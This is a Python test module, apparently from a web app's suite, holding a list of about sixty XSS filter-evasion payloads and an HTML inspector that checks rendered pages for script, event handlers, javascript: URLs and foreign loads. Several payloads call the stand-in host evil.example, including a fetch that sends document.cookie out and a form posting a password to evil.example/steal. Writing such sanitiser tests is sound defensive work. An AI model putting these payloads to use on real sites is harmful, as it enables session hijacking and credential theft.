"""A corpus of classic XSS filter-evasion payloads and an inspector of rendered HTML (issue 7).

Every payload that worked would leave a trace the inspector finds: an element or attribute
that runs script (<script>, on*=, javascript: URLs), loads from elsewhere (<iframe>, <object>,
<base>, <link>), or carries the `data-xss` marker. Payloads call alert() so that in a browser
a dialog would show it ran.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert('xss') data-xss>",
    "<IMG SRC=\"javascript:alert('xss');\">",
    "<IMG SRC=javascript:alert(&quot;xss&quot;)>",
    "<IMG SRC=JaVaScRiPt:alert('xss') data-xss>",
    '<IMG SRC=`javascript:alert("xss")` data-xss>',
    "<a onmouseover=\"alert('xss')\" data-xss>hover me</a>",
    '<IMG """><SCRIPT>alert("xss")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xss')\" data-xss>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))" data-xss></img>',
    '<img src=x onerror="&#0000097&#0000108&#0000101&#0000114&#0000116'
    '&#0000040&#0000049&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('xss');\" data-xss>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('xss');\" data-xss>",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("xss")>',
    '<<SCRIPT>alert("xss");//\\<</SCRIPT>',
    "<SCRIPT SRC=//evil.example/.j>",
    "<iframe src=https://evil.example/xss.html data-xss></iframe>",
    "<svg/onload=alert('xss') data-xss>",
    "<svg><script>alert('xss')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss') data-xss>",
    "</title><script>alert('xss')</script>",
    "</textarea><script>alert('xss')</script>",
    "</script><script>alert('xss')</script>",
    "\"><script>alert('xss')</script>",
    "' onmouseover='alert(1)' data-xss='",
    '" onfocus="alert(\'xss\')" autofocus data-xss="',
    "javascript:alert('xss')",
    "<a href=\"javascript:alert('xss')\" data-xss>click me</a>",
    "<a href=\"jAvAsCrIpT&colon;alert('xss')\">click me</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">click me</a>',
    '<object data="https://evil.example/xss.swf" data-xss></object>',
    '<embed src="https://evil.example/xss.swf" data-xss>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<link rel="stylesheet" href="https://evil.example/xss.css">',
    "<style>@import 'https://evil.example/xss.css';</style>",
    "<div style=\"background-image: url(javascript:alert('xss'))\" data-xss>styled</div>",
    "<div style=\"width: expression(alert('xss'));\" data-xss>styled</div>",
    '<form action="https://evil.example/steal" data-xss><input name="password"></form>',
    "<details open ontoggle=alert('xss') data-xss>",
    "<video><source onerror=\"alert('xss')\" data-xss></video>",
    "<body onload=alert('xss')>",
    "<input autofocus onfocus=alert('xss') data-xss>",
    "<marquee onstart=alert('xss') data-xss>",
    "<!--<img src=\"--><img src=x onerror=alert('xss') data-xss//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss') data-xss>\">",
    "<scr<script>ipt>alert('xss')</scr</script>ipt>",
    "%3Cscript%3Ealert('xss')%3C/script%3E",
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    "\\u003cscript\\u003ealert('xss')\\u003c/script\\u003e",
    '<img src="x" alt="xss" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
    "<isindex type=image src=1 onerror=alert('xss') data-xss>",
    "<template><img src=x onerror=alert('xss') data-xss></template>",
    "{{ request }} {% debug %} ${alert('xss')}",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss data-xss>",
    "<a href=\"&#x6A;avascript:alert('xss')\">click me</a>",
    '<img srcset="https://evil.example/a.png 1x" data-xss>',
]

# Where a page may legitimately load from (besides its own origin): nowhere.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcset"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg",
                  "math", "template", "isindex", "marquee", "style"}  # fmt: skip
DATA_BLOCK_TYPES = {"application/ld+json", "application/json"}


class _Inspector(HTMLParser):
    def __init__(self, nonce, allow):
        super().__init__(convert_charrefs=True)
        self.nonce = nonce
        self.forbidden = FORBIDDEN_TAGS - set(allow)
        self.findings = []

    def handle_starttag(self, tag, attrs):
        found = self.findings.append
        names = dict(attrs)
        if tag in self.forbidden and not (tag == "style" and self._has_nonce(names)):
            found(f"<{tag}> element")
        if tag == "script" and not self._script_allowed(names):
            found(f"<script {names}> that may run")
        if tag == "meta" and "http-equiv" in names:
            found(f"<meta http-equiv={names['http-equiv']!r}>")
        if tag == "link" and names.get("rel") == "stylesheet" and _foreign(names.get("href")):
            found(f"stylesheet from {names['href']}")
        if tag == "form" and _foreign(names.get("action")):
            found(f"form posting to {names['action']}")
        for name, value in attrs:
            if name.startswith("on"):
                found(f"<{tag} {name}=...> event handler")
            elif name == "style":
                found(f"<{tag} style=...> inline style")
            elif name == "data-xss":
                found(f"<{tag} data-xss> marker element")
            elif name in URL_ATTRIBUTES and _script_url(value):
                found(f"<{tag} {name}={value!r}> script URL")
            elif name in {"src", "srcset"} and _foreign(value):
                found(f"<{tag} {name}={value!r}> loads from another site")

    def _has_nonce(self, names):
        return self.nonce is not None and names.get("nonce") == self.nonce

    def _script_allowed(self, names):
        if names.get("type") in DATA_BLOCK_TYPES:
            return True
        if names.get("src") is not None:
            return not _foreign(names["src"])
        return self._has_nonce(names)


def _script_url(value):
    squeezed = "".join((value or "").split()).lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:text/html"))


def _foreign(value):
    """Whether a URL names another site (a scheme or //host), as opposed to a path of ours."""
    if not value:
        return False
    parts = urlsplit(value.strip().split(" ")[0])
    return bool(parts.netloc) and parts.hostname not in {"testserver", "localhost", "127.0.0.1"}


def inspect_html(html: str, nonce: str | None = None, allow=()) -> list[str]:
    """What in `html` could run script or load from another site; [] for a clean page.

    Allowed: scripts from this site, JSON-LD data blocks, (in the admin) inline scripts and
    styles carrying this response's CSP `nonce`, and the elements named in `allow` (the
    admin's own <svg> icons), as long as they carry no event handler.
    """
    inspector = _Inspector(nonce, allow)
    inspector.feed(html)
    inspector.close()
    return inspector.findings
